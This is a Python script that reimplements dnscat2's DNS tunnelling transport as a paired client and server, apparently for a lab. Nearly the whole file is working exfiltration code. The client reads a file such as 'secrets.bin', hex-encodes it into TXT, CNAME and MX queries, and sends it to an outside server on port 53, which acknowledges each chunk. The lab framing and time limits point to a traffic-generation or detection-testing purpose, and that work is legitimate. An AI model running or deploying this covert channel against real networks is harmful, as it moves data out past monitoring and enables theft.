#!/usr/bin/env python3
"""dnscat2's DNS transport in direct mode, client and server, for the lab (stdlib only).

    dnscat.py server --listen 203.0.113.10 [--seconds 90]
    dnscat.py client --server 203.0.113.10 --file secrets.bin [--seconds 60]

What dnscat2 0.07 puts on the wire with ``--dns server=IP,port=53`` and no domain,
``--no-encryption``: every dnscat packet (packet id, type, session id, then for a SYN
the initial sequence number and options, for a MSG seq, ack and data) is hex-encoded
behind the ``dnscat.`` tag, with a dot whenever a label reaches 60 characters, at most
115 bytes a packet; each query asks for TXT, CNAME or MX at random (its default
types). The server answers TXT with hex text, CNAME and MX with ``dnscat.<hex>``. The
client sends its file in MSG packets, each acknowledged before the next (retried after
a second), then polls with empty MSGs once a second (``--delay 1000``) until
``--seconds``, and closes with a FIN. Both ends are bounded in time.
"""

from __future__ import annotations

import argparse
import random
import socket
import struct
import sys
import time

SYN, MSG, FIN = 0x00, 0x01, 0x02
TXT, CNAME, MX = 16, 5, 15
TYPES = (TXT, CNAME, MX)
TAG = "dnscat"
MAX_PACKET = 115  # MAX_DNSCAT_LENGTH(NULL): 255 / 2 - len("dnscat") - 1 - 5
FIELD = 62  # a dot once a label's length + 2 reaches this


def encode(data: bytes) -> str:
    """dnscat2's hex name: the tag, then hex with a dot when a label reaches 60 chars."""
    out, section = [TAG, "."], 0
    for i, b in enumerate(data):
        out.append(f"{b:02x}")
        section += 2
        if i + 1 != len(data) and section + 2 >= FIELD:
            section = 0
            out.append(".")
    return "".join(out)


def decode(name: str) -> bytes:
    text = name[len(TAG) :] if name.startswith(TAG) else name
    return bytes.fromhex(text.replace(".", ""))


def wire_name(name: str) -> bytes:
    return b"".join(bytes([len(p)]) + p.encode() for p in name.split(".") if p) + b"\0"


def read_name(msg: bytes, off: int) -> tuple[str, int]:
    labels = []
    while msg[off]:
        n = msg[off]
        labels.append(msg[off + 1 : off + 1 + n].decode())
        off += 1 + n
    return ".".join(labels), off + 1


def query(ident: int, name: str, qtype: int) -> bytes:
    return (
        struct.pack(">HHHHHH", ident, 0x0100, 1, 0, 0, 0)
        + wire_name(name)
        + struct.pack(">HH", qtype, 1)
    )


def answer(msg: bytes, payload: bytes) -> bytes:
    """A response to ``msg`` carrying ``payload`` the way dnscat2's server does."""
    ident = struct.unpack(">H", msg[:2])[0]
    _, off = read_name(msg, 12)
    qtype = struct.unpack(">H", msg[off : off + 2])[0]
    question = msg[12 : off + 4]
    if qtype == TXT:
        text = payload.hex().encode()
        rdata = bytes([len(text)]) + text
    elif qtype == MX:
        rdata = struct.pack(">H", 10) + wire_name(encode(payload))
    else:
        qtype = CNAME
        rdata = wire_name(encode(payload))
    rr = b"\xc0\x0c" + struct.pack(">HHIH", qtype, 1, 1, len(rdata)) + rdata
    return struct.pack(">HHHHHH", ident, 0x8180, 1, 1, 0, 0) + question + rr


def server(listen: str, seconds: float) -> int:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((listen, 53))
    s.settimeout(0.5)
    seq = random.randrange(65536)  # the server's; it sends no data
    deadline = time.monotonic() + seconds
    received = 0
    try:
        while time.monotonic() < deadline:
            received += serve_one(s, seq)
    except KeyboardInterrupt:  # the lab stops it with SIGINT
        pass
    print(f"server: {received} bytes received")
    return 0


def serve_one(s: socket.socket, seq: int) -> int:
    """Answer one query (if one comes within half a second); the data bytes it carried."""
    received = 0
    try:
        msg, peer = s.recvfrom(2048)
    except TimeoutError:
        return 0
    try:
        name, _ = read_name(msg, 12)
        pkt = decode(name)
        pid, kind, session = struct.unpack(">HBH", pkt[:5])
    except (ValueError, IndexError, struct.error):
        return 0
    if kind == SYN:
        reply = struct.pack(">HBHHH", pid, SYN, session, seq, 0)
    elif kind == MSG:
        their_seq, _ack = struct.unpack(">HH", pkt[5:9])
        data = pkt[9:]
        received += len(data)
        reply = struct.pack(">HBHHH", pid, MSG, session, seq, (their_seq + len(data)) & 0xFFFF)
    else:
        reply = struct.pack(">HBH", pid, FIN, session) + b"bye\0"
    s.sendto(answer(msg, reply), peer)
    return received


def client(server_ip: str, path: str, seconds: float) -> int:
    data = open(path, "rb").read()  # noqa: SIM115 - a small file, read once
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1.0)
    session = random.randrange(65536)
    seq = random.randrange(65536)
    start = time.monotonic()
    deadline = start + seconds
    sent_queries = 0

    def exchange(pkt: bytes) -> bytes | None:
        nonlocal sent_queries
        for _ in range(5):
            if time.monotonic() >= deadline:
                return None
            ident = random.randrange(65536)
            s.sendto(query(ident, encode(pkt), random.choice(TYPES)), (server_ip, 53))
            sent_queries += 1
            try:
                msg, _ = s.recvfrom(2048)
            except TimeoutError:
                continue
            if msg[:2] == struct.pack(">H", ident):
                return msg
        return None

    pid = random.randrange(65536)
    if exchange(struct.pack(">HBHHH", pid, SYN, session, seq, 0)) is None:
        print("client: no answer to SYN", file=sys.stderr)
        return 1
    room = MAX_PACKET - 9
    off = 0
    while off < len(data) and time.monotonic() < deadline:
        chunk = data[off : off + room]
        pid = (pid + 1) & 0xFFFF
        if exchange(struct.pack(">HBHHH", pid, MSG, session, seq, 0) + chunk) is None:
            break
        seq = (seq + len(chunk)) & 0xFFFF
        off += len(chunk)
    while time.monotonic() < deadline - 1:  # idle: an empty MSG every second
        time.sleep(1.0)
        pid = (pid + 1) & 0xFFFF
        exchange(struct.pack(">HBHHH", pid, MSG, session, seq, 0))
    exchange(struct.pack(">HBH", (pid + 1) & 0xFFFF, FIN, session) + b"done\0")
    print(f"client: {off} of {len(data)} bytes sent in {sent_queries} queries")
    return 0 if off == len(data) else 1


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    sub = ap.add_subparsers(dest="role", required=True)
    sv = sub.add_parser("server")
    sv.add_argument("--listen", required=True)
    sv.add_argument("--seconds", type=float, default=90)
    cl = sub.add_parser("client")
    cl.add_argument("--server", required=True)
    cl.add_argument("--file", required=True)
    cl.add_argument("--seconds", type=float, default=60)
    args = ap.parse_args()
    if args.role == "server":
        return server(args.listen, args.seconds)
    return client(args.server, args.file, args.seconds)


if __name__ == "__main__":
    sys.exit(main())
